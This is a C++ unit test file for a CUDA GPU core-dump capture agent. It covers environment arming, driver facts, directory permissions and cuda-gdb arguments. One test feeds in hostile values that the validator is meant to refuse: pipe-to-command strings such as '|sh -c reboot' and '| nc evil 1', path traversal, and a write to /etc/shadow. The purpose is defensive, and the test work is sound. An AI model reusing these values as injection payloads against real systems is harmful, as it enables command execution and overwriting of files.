// The GPU source's parts that need no GPU and no CUDA process: the arming environment, the
// target's templates as hostile input, the driver facts from an injected /proc/driver/nvidia,
// the agent's directory, and the cuda-gdb fallback (its command line; its absence reported).
// The whole capture against a fake CUDA target runs in gpu_capture_cli_test.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <string>

#include "capture/gpu/cuda_arming.h"
#include "capture/gpu/cuda_coredump_source.h"
#include "test_util.h"

namespace mlfx::agent::gpu {
namespace {

std::string environ_of(std::initializer_list<std::string> entries) {
  std::string e;
  for (const std::string& x : entries) e += x + '\0';
  return e;
}

const std::string kDir = "/run/mlfx-agent/gpu";

TEST(GpuArming, TheEnvironmentKeepsGlobalMemoryAndNamesTheAgentsDirectory) {
  auto env = arming_environment("/d");
  ASSERT_EQ(env.size(), 5u);
  EXPECT_EQ(env[0],
            (std::pair<std::string, std::string>{"CUDA_ENABLE_USER_TRIGGERED_COREDUMP", "1"}));
  EXPECT_EQ(env[1].second, "/d/corepipe.%p");
  EXPECT_EQ(env[2].second, "/d/core.%p");
  EXPECT_EQ(env[3].first, "CUDA_COREDUMP_GENERATION_FLAGS");
  EXPECT_EQ(env[3].second.find("skip_global_memory"), std::string::npos);
  EXPECT_EQ(env[3].second.find("gzip"), std::string::npos);
}

TEST(GpuArming, AnArmedEnvironmentIsExpandedForTheTargetsOwnPid) {
  auto a = parse_arming(environ_of({"PATH=/bin", "CUDA_ENABLE_USER_TRIGGERED_COREDUMP=1",
                                    "CUDA_COREDUMP_PIPE=" + kDir + "/corepipe.%h.%p",
                                    "CUDA_COREDUMP_FILE=" + kDir + "/core.%p%%",
                                    "CUDA_COREDUMP_GENERATION_FLAGS=skip_nonrelocated_elf_images"}),
                        kDir, 42, "host");
  ASSERT_TRUE(a) << a.error().to_string();
  EXPECT_TRUE(a->armed);
  EXPECT_EQ(a->pipe_name, "corepipe.host.42");
  EXPECT_EQ(a->file_name, "core.42%");
  EXPECT_EQ(a->flags, "skip_nonrelocated_elf_images");
  EXPECT_EQ(a->to_json()["CUDA_COREDUMP_PIPE"], kDir + "/corepipe.%h.%p");
}

TEST(GpuArming, ATargetWithoutTheVariablesIsNotArmedAndIsToldHow) {
  auto a = parse_arming(environ_of({"PATH=/bin"}), kDir, 42, "h");
  ASSERT_TRUE(a);
  EXPECT_FALSE(a->armed);
  EXPECT_NE(a->why_not.find("mlfx-agent gpu-env"), std::string::npos) << a->why_not;
  // The driver's default pipe is in the working directory: not one the agent can trust.
  auto b = parse_arming(environ_of({"CUDA_ENABLE_USER_TRIGGERED_COREDUMP=1"}), kDir, 42, "h");
  ASSERT_TRUE(b);
  EXPECT_FALSE(b->armed);
  EXPECT_NE(b->why_not.find("CUDA_COREDUMP_PIPE"), std::string::npos) << b->why_not;
}

TEST(GpuArming, HostileTemplatesAreRefused) {
  const std::string pipe = "CUDA_COREDUMP_PIPE=" + kDir + "/corepipe.%p";
  const std::string file = "CUDA_COREDUMP_FILE=" + kDir + "/core.%p";
  const std::string on = "CUDA_ENABLE_USER_TRIGGERED_COREDUMP=1";
  struct Case {
    std::string env, why;
  };
  for (const Case& c : std::initializer_list<Case>{
           {environ_of({on, pipe, "CUDA_COREDUMP_FILE=/etc/shadow"}), "outside"},
           {environ_of({on, pipe, "CUDA_COREDUMP_FILE=| gzip -9 > /tmp/x.gz"}), "command"},
           {environ_of({on, pipe, "CUDA_COREDUMP_FILE=  |sh -c reboot"}), "command"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/../../etc/x", file}), "'..'"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/sub/pipe", file}), "directly in"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/pipe.%t", file}), "only %p"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/p\n", file}), "control"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/" + std::string(5000, 'a'), file}),
            "longer"},
           {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/core.%p", file}), "same path"},
           {environ_of({on, pipe, "CUDA_COREDUMP_FILE=" + kDir + "-evil/core"}), "outside"},
           // The CUPTI library's copy-out is checked the same way.
           {environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/t.%p", "MLFX_CUPTI_OUTPUT=/var/tmp/out"}), "outside"},
           {environ_of({"MLFX_CUPTI_TRIGGER=| nc evil 1", "MLFX_CUPTI_OUTPUT=" + kDir + "/o"}), "command"},
           {environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/x", "MLFX_CUPTI_OUTPUT=" + kDir + "/x"}), "same path"},
       }) {
    auto a = parse_arming(c.env, kDir, 42, "host");
    ASSERT_FALSE(a) << c.why;
    EXPECT_EQ(a.error().code(), Errc::kPermission) << a.error().to_string();
    EXPECT_NE(a.error().message().find(c.why), std::string::npos) << a.error().to_string();
  }
  // A host name with a slash (a hostile UTS namespace) cannot move %h out of the directory.
  EXPECT_FALSE(expand_template(kDir + "/p.%h", kDir, 1, "../x"));
}

TEST(GpuArming, TheCuptiCopyOutIsReadFromItsOwnVariables) {
  auto a = parse_arming(environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/cupti-trigger.%p",
                                    "MLFX_CUPTI_OUTPUT=" + kDir + "/cupti-core.%p"}),
                        kDir, 42, "host");
  ASSERT_TRUE(a) << a.error().to_string();
  EXPECT_FALSE(a->armed);  // not for the driver's dump
  EXPECT_TRUE(a->cupti);
  EXPECT_EQ(a->cupti_trigger_name, "cupti-trigger.42");
  EXPECT_EQ(a->cupti_output_name, "cupti-core.42");
  // One of the two alone is no copy-out.
  a = parse_arming(environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/cupti-trigger.%p"}), kDir, 42, "host");
  ASSERT_TRUE(a);
  EXPECT_FALSE(a->cupti);
}

TEST(GpuArming, AnEnvironmentPastTheBoundIsCutNotFollowed) {
  std::string huge = environ_of(
      {"X=" + std::string(kMaxEnvironBytes, 'x'), "CUDA_ENABLE_USER_TRIGGERED_COREDUMP=1"});
  auto a = parse_arming(huge, kDir, 1, "h");
  ASSERT_TRUE(a);
  EXPECT_FALSE(a->armed);
  EXPECT_NE(a->why_not.find("first MiB"), std::string::npos);
}

TEST(GpuArming, DriverFactsComeFromTheInjectedTreeAndSayWhenMissing) {
  testing::TempDir dir;
  const std::string root = dir.path() + "/nvidia";
  mkdir(root.c_str(), 0755);
  mkdir((root + "/gpus").c_str(), 0755);
  mkdir((root + "/gpus/0000:01:00.0").c_str(), 0755);
  testing::write_file(root + "/version",
                      "NVRM version: NVIDIA UNIX x86_64 Kernel Module  580.65.06\n");
  testing::write_file(root + "/gpus/0000:01:00.0/information",
                      "Model: \t\t NVIDIA H100\nBus Location: \t 0000:01:00.0\n");
  auto f = nvidia_driver_facts(root);
  EXPECT_TRUE(f["available"].get<bool>());
  EXPECT_NE(f["version"].get<std::string>().find("580.65.06"), std::string::npos);
  ASSERT_EQ(f["gpus"].size(), 1u);
  EXPECT_EQ(f["gpus"][0]["bus"], "0000:01:00.0");
  EXPECT_NE(f["gpus"][0]["information"].get<std::string>().find("H100"), std::string::npos);
  auto none = nvidia_driver_facts(dir.path() + "/absent");
  EXPECT_FALSE(none["available"].get<bool>());
  EXPECT_TRUE(none.contains("why"));
}

TEST(GpuArming, TheAgentsDirectoryIsMadeStickyAndAForeignOneRefused) {
  testing::TempDir dir;
  const std::string gpu = dir.path() + "/run/gpu";
  ASSERT_TRUE(ensure_gpu_dir(gpu));
  struct stat st {};
  ASSERT_EQ(stat(gpu.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 01733u);
  auto fd = open_gpu_dir(gpu);
  ASSERT_TRUE(fd);
  close(*fd);
  // A symlink in its place is never followed; a directory others may empty is refused.
  const std::string link = dir.path() + "/link";
  ASSERT_EQ(symlink(gpu.c_str(), link.c_str()), 0);
  EXPECT_FALSE(open_gpu_dir(link));
  EXPECT_FALSE(ensure_gpu_dir(link));
  chmod(gpu.c_str(), 0777);
  EXPECT_FALSE(open_gpu_dir(gpu));
  EXPECT_FALSE(ensure_gpu_dir("relative/dir"));
}

TEST(GpuCudaGdb, TheCommandLineAttachesWritesTheGpuCoreAndDetaches) {
  EXPECT_EQ(
      cuda_gdb_argv("/usr/local/cuda/bin/cuda-gdb", 4242, "/run/mlfx-agent/gpu/mlfx-cuda-gdb.4242"),
      (std::vector<std::string>{
          "/usr/local/cuda/bin/cuda-gdb", "-nx", "-q", "-batch", "-p", "4242", "-ex",
          "generate-cuda-core-file /run/mlfx-agent/gpu/mlfx-cuda-gdb.4242", "-ex", "detach"}));
}

TEST(GpuCudaGdb, ATargetNotArmedWithoutCudaGdbIsRefusedSayingHowToArm) {
  if (access("/usr/local/cuda/bin/cuda-gdb", X_OK) == 0)
    GTEST_SKIP() << "cuda-gdb is installed here";
  const char* old = std::getenv("PATH");
  const std::string saved = old ? old : "";
  setenv("PATH", "/nonexistent", 1);
  EXPECT_FALSE(find_cuda_gdb());
  testing::TempDir dir;
  GpuCaptureOptions o;
  o.pid = getpid();  // this test is no CUDA process
  o.dir = dir.path();
  auto s = CudaCoredumpSource::create(o);
  setenv("PATH", saved.c_str(), 1);
  ASSERT_FALSE(s);
  EXPECT_TRUE(CudaCoredumpSource::not_armed(s.error())) << s.error().to_string();
  EXPECT_NE(s.error().message().find("gpu-env"), std::string::npos) << s.error().to_string();
  EXPECT_NE(s.error().message().find("no cuda-gdb"), std::string::npos) << s.error().to_string();
}

}  // namespace
}  // namespace mlfx::agent::gpu
